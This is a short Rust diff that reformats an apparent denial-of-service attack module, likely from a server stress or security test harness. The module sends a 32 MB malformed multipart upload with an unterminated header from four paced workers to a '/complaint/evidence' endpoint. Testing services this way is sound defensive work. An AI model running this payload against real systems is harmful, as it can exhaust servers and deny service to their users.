@@ -18,11 +18,16 @@ pub const ATTACK: Attack = Attack {
 
 fn play(target: &Target, stop: &Stop) -> Result<String> {
     let draft = Draft::begin(target.client([203, 0, 113, 5]))?;
-    let headers = format!("Cookie: draft={}\r\nContent-Type: multipart/form-data; boundary=edge\r\n", draft.token);
+    let headers = format!(
+        "Cookie: draft={}\r\nContent-Type: multipart/form-data; boundary=edge\r\n",
+        draft.token
+    );
     let mut form = b"--edge\r\nContent-Disposition: form-data; name=\"".to_vec();
     form.resize(32_000_000, b'a');
     Ok(attackers(4, stop, |_| {
-        let answer = draft.client.paced("POST", "/complaint/evidence", &headers, &form, 16_000, Duration::ZERO)?;
+        let answer = draft
+            .client
+            .paced("POST", "/complaint/evidence", &headers, &form, 16_000, Duration::ZERO)?;
         Ok(answer.status)
     }))
 }
